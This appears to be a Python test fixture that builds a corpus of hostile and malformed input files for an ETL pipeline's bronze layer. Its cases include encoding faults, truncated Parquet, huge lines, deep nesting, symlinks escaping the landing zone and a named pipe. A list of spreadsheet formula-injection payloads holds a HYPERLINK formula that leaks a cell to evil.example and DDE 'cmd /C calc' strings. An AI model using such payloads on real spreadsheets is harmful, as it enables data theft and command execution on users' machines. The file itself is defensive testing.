"""The hostile and broken input corpus, landed in days of its own (``D1``, ``D2``) next to the
generated sample days of the session's shared run (``conftest.lake_run``).

Each constant is a landing key; ``build_corpus`` writes them. ``EXPECTED_BRONZE_ROWS`` is what
each file must add to bronze, counted by hand from the bytes written here.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from etl_assets.registry import dataset

#: the corpus days: after the generated sample days (2026-11-01 onwards), before nothing else
D1, D2 = "2026-11-08", "2026-11-09"
ROOT = Path(__file__).resolve().parents[1]

# --- the corpus: landing keys ---------------------------------------------------------------
EMPTY = {
    "accounts": f"crm/accounts/dt={D1}/empty.csv",
    "behavior": f"web/behavior/dt={D1}/empty.jsonl",
    "orders": f"warehouse/orders/dt={D1}/empty.parquet",
}
HEADER_ONLY = f"crm/contacts/dt={D2}/header-only.csv"
BOM_CSV = f"crm/contacts/dt={D2}/bom-export.csv"  # UTF-8 with a byte-order mark, CRLF, a fractional timestamp
SEMICOLONS = f"warehouse/products/dt={D2}/semicolons.csv"
LATIN1_CSV = f"warehouse/customers/dt={D2}/latin1-export.csv"
BAD_BYTES_JSONL = f"stream/order_events/dt={D2}/bad-bytes.jsonl"
TRUNCATED = f"warehouse/orders/dt={D2}/truncated.parquet"
RETYPED = f"warehouse/orders/dt={D2}/retyped.parquet"
HUGE_LINE = f"web/behavior/dt={D2}/huge-line.jsonl"
LONG_CELL = f"warehouse/products/dt={D2}/long-cell.csv"
FORMULAS = f"crm/accounts/dt={D2}/formulas.csv"
DEEP = f"web/behavior/dt={D2}/deep-nesting.jsonl"
ODD_NAMES = {
    "accounts": f"crm/accounts/dt={D2}/Kunden Übersicht + 100% (final) #2.csv",
    "behavior": f"web/behavior/dt={D1}/événements du jour – 東京.jsonl",
}
LINKED_FILE = f"crm/accounts/dt={D2}/linked.csv"
LINKED_DIR = "crm/accounts/dt=2026-11-10"
FIFO = f"crm/opportunities/dt={D2}/pipe.csv"
# contract cases the small sample never reaches (a return needs days): one valid customer and
# product, two USD orders of 1 and 5 units, the first RETURNED -> return_rate 1/6 = 0.1667
RETURNS = {
    "customers": f"warehouse/customers/dt={D1}/returns-case.csv",
    "products": f"warehouse/products/dt={D1}/returns-case.csv",
    "orders": f"warehouse/orders/dt={D1}/returns-case.parquet",
    "order_events": f"stream/order_events/dt={D2}/returns-case.jsonl",
}

MB = 1 << 20
HUGE_LINE_BYTES = 10 * MB
LONG_CELL_CHARS = 1 * MB
FORMULA_VALUES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ACCOUNT_HEADER = dataset("accounts").source_columns
PRODUCT_HEADER = dataset("products").source_columns
CUSTOMER_HEADER = dataset("customers").source_columns


def _csv_line(values) -> str:
    out = []
    for v in values:
        v = "" if v is None else str(v)
        out.append('"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\n\r') else v)
    return ",".join(out)


def _csv(header, rows) -> bytes:
    return ("\n".join([_csv_line(header)] + [_csv_line(r) for r in rows]) + "\n").encode()


def _account(account_id: str, name: str = "Acme", ts: str = "2026-11-02T08:00:00Z") -> list:
    # CRM exports write full timestamps in created_date / last_modified_date (CONTRACT.md §2 Types)
    return [account_id, name, "Technology", "1000", "Berlin", "de", f"{account_id.lower()}@example.com",
            "2026-01-01T00:00:00Z", ts]


def _event(event_id: str, **kw) -> dict:
    return {"event_id": event_id, "customer_id": None, "event_name": "login", "event_ts": "2026-11-02T10:00:00Z",
            "session_id": "s-1", "device": "web", "geo": "de", "url_1": None, "url_2": None, "metadata": None, **kw}


def _nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def build_corpus(landing: Path, sentinel: Path) -> None:
    def put(key: str, data: bytes) -> Path:
        p = landing / key
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        return p

    # a generated orders file (the first by name, before any corpus file exists)
    good = sorted((landing / "warehouse" / "orders").rglob("*.parquet"))[0]
    for key in EMPTY.values():
        put(key, b"")
    put(HEADER_ONLY, (",".join(dataset("contacts").source_columns) + "\r\n").encode())
    put(BOM_CSV, b"\xef\xbb\xbf" + (",".join(dataset("contacts").source_columns) + "\r\n"
                  + "CT-BOM-1,,Zoë,Bom, ZOE.Bom@Example.COM ,+44 20 1234,Customer ,"
                  "2026-11-09T10:00:00.5Z,2026-11-09T10:00:00.123456789+01:00\r\n").encode())
    # a European export: semicolons, one quoted field holding a semicolon
    put(SEMICOLONS, (";".join(PRODUCT_HEADER) + "\n"
                     "PX-SEMI-1;SKU-1;Widget;tools;9.99;USD;true;2026-11-02T10:00:00Z\n"
                     'PX-SEMI-2;SKU-2;"Gadget; large";tools;19.99;USD;true;2026-11-02T10:00:00Z\n'
                     "PX-SEMI-3;SKU-3;Gizmo;tools;5.00;USD;false;2026-11-02T10:00:00Z\n").encode())
    # Latin-1 bytes in a UTF-8 file: "Müller" as M\xfcller, next to a valid UTF-8 row
    put(LATIN1_CSV, _csv(CUSTOMER_HEADER, []) +
        b"CX-LATIN-1,anna@example.com,Anna,M\xfcller,+49 30 1234,DE,retail,2026-01-01,2026-11-02T10:00:00Z\n"
        b"CX-UTF8-1,jose@example.com,Jos\xc3\xa9,Garc\xc3\xada,+34 91 1234,ES,retail,2026-01-01,2026-11-02T10:00:00Z\n")
    put(BAD_BYTES_JSONL,
        b'{"event_id":"OE-BAD-1","order_id":"O-1","event_type":"PAID\xff\xfe","event_ts":"2026-11-02T10:00:00Z"}\n'
        + json.dumps({"event_id": "OE-OK-1", "order_id": "O-NOPE", "event_type": "PAID",
                      "event_ts": "2026-11-02T10:00:00Z", "payload": None}).encode() + b"\n")
    # a Parquet file cut in half (no footer)
    data = good.read_bytes()
    put(TRUNCATED, data[: len(data) // 2])
    # a Parquet file with the wrong column types: quantity text, order_ts text, amount double
    sample = pq.read_table(good).slice(0, 1).to_pylist()[0]
    retyped = pa.table({
        "order_id": ["O-RETYPED-1", "O-RETYPED-2"],
        "customer_id": [sample["customer_id"]] * 2,
        "product_id": [sample["product_id"]] * 2,
        "order_ts": ["2026-11-02T09:00:00Z", "2026-11-02T09:30:00Z"],
        "quantity": ["three", "2"],
        "unit_price": [5.5, 5.5],
        "amount": [16.5, 11.0],
        "currency": ["USD", "USD"],
        "status": ["PLACED", "PLACED"],
        "last_modified_ts": ["2026-11-02T09:00:00Z", "2026-11-02T09:30:00Z"],
    })
    (landing / RETYPED).parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(retyped, landing / RETYPED)
    # the returns case: valid rows, typed like the generated Parquet file
    put(RETURNS["customers"], _csv(CUSTOMER_HEADER, [["CX-RET-1", "ret@example.com", "Ret", "Urn", "+1 555 0101", "DE",
                                                      "retail", "2026-01-01", f"{D1}T08:00:00Z"]]))
    put(RETURNS["products"], _csv(PRODUCT_HEADER, [["PX-RET-1", "SKU-RET", "Boomerang", "toys", "10.00", "USD",
                                                    "true", f"{D1}T08:00:00Z"]]))
    schema = pq.read_schema(good)
    ts = [dt.datetime(2026, 11, 8, 10, m, tzinfo=dt.timezone.utc) for m in (0, 5)]
    orders = {"order_id": ["O-RET-1", "O-RET-2"], "customer_id": ["CX-RET-1"] * 2, "product_id": ["PX-RET-1"] * 2,
              "order_ts": ts, "quantity": [1, 5], "unit_price": [Decimal("10.00")] * 2,
              "amount": [Decimal("10.00"), Decimal("50.00")], "currency": ["USD"] * 2, "status": ["PLACED"] * 2,
              "last_modified_ts": ts}
    (landing / RETURNS["orders"]).parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table({f.name: pa.array(orders[f.name], f.type)
                             for f in schema}), landing / RETURNS["orders"])
    put(RETURNS["order_events"], "".join(json.dumps(e) + "\n" for e in [
        {"event_id": "OE-RET-1", "order_id": "O-RET-1", "customer_id": "CX-RET-1", "event_type": "PLACED",
         "event_ts": f"{D1}T10:00:00Z", "payload": None},
        {"event_id": "OE-RET-2", "order_id": "O-RET-1", "customer_id": "CX-RET-1", "event_type": "RETURNED",
         "event_ts": f"{D2}T10:00:00Z", "payload": None},
    ]).encode())
    # one JSON line of 10 MB (a big metadata object), then a normal line
    blob = "x" * HUGE_LINE_BYTES
    put(HUGE_LINE, (json.dumps(_event("EV-HUGE-1", metadata={"blob": blob})) + "\n"
                    + json.dumps(_event("EV-AFTER-HUGE")) + "\n").encode())
    # a CSV cell of 1 MB (quoted, with commas, quotes and a line break inside)
    cell = ('Mega, "long" name\n' * (LONG_CELL_CHARS // 18 + 1))[:LONG_CELL_CHARS]
    put(LONG_CELL, _csv(PRODUCT_HEADER, [["PX-LONG-1", "SKU-L", cell, "tools", "1.00", "USD", "true",
                                          "2026-11-02T10:00:00Z"]]))
    # spreadsheet formula injection
    put(FORMULAS, _csv(ACCOUNT_HEADER, [_account(f"AX-FORMULA-{i}", v) for i, v in enumerate(FORMULA_VALUES)]))
    # deeply nested JSON: past the parser's nesting limit as an object, and as a string holding
    # JSON; within the limit as an object
    put(DEEP, "\n".join([
        json.dumps(_event("EV-DEEP-OBJ"))[:-1] + ', "metadata": ' + _nested(5000) + "}",
        json.dumps(_event("EV-DEEP-STR", metadata=_nested(5000))),
        json.dumps(_event("EV-NESTED-OK"))[:-1] + ', "metadata": ' + _nested(200) + "}",
    ]).encode() + b"\n")
    # file names with spaces, '+', '%', '#', parentheses and non-ASCII characters
    put(ODD_NAMES["accounts"], _csv(ACCOUNT_HEADER, [_account("AX-ODD-NAME-1", "Grüße GmbH")]))
    put(ODD_NAMES["behavior"], (json.dumps(_event("EV-ODD-NAME-1", event_ts="2026-11-01T10:00:00Z")) + "\n").encode())
    # the sentinel: valid account files outside the landing zone, linked from inside it
    (sentinel / "dir").mkdir(parents=True)
    (sentinel / "secret.csv").write_bytes(_csv(ACCOUNT_HEADER, [_account("AX-SENTINEL-1", "SENTINEL")]))
    (sentinel / "dir" / "more.csv").write_bytes(_csv(ACCOUNT_HEADER, [_account("AX-SENTINEL-2", "SENTINEL")]))
    os.symlink(sentinel / "secret.csv", landing / LINKED_FILE)
    os.symlink(sentinel / "dir", landing / LINKED_DIR, target_is_directory=True)
    # a named pipe: opening it for reading would block the run forever
    (landing / FIFO).parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(landing / FIFO)


#: bronze rows each dataset's corpus files add, counted from the bytes above: linked, FIFO,
#: truncated, empty and header-only files add none
EXPECTED_BRONZE_ROWS = {
    "accounts": len(FORMULA_VALUES) + 1,  # the formulas and the odd file name
    "contacts": 1,  # the BOM file
    "opportunities": 0,
    "customers": 2 + 1,  # the Latin-1 line (kept as a corrupt record), the UTF-8 line; the returns case
    "products": 3 + 1 + 1,  # three semicolon lines (malformed), the 1 MB cell; the returns case
    "orders": 2 + 2,  # the retyped file; the returns case
    "behavior": 2 + 3 + 1,  # the 10 MB line and the next, the nesting file, the odd name
    "order_events": 2 + 2,  # the invalid bytes line and the valid one; the returns case
    "rates": 0,
}


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry below ``folder`` (links not followed): type, size, mtime and content digest."""
    out = {}
    for p in sorted(folder.rglob("*")):
        st = p.lstat()
        if p.is_symlink():
            out[p.relative_to(folder).as_posix()] = ("link", os.readlink(p))
        elif p.is_file():
            out[p.relative_to(folder).as_posix()] = ("file", st.st_size, st.st_mtime_ns,
                                                      hashlib.sha256(p.read_bytes()).hexdigest())
        else:
            out[p.relative_to(folder).as_posix()] = ("other", st.st_mode, st.st_mtime_ns)
    return out


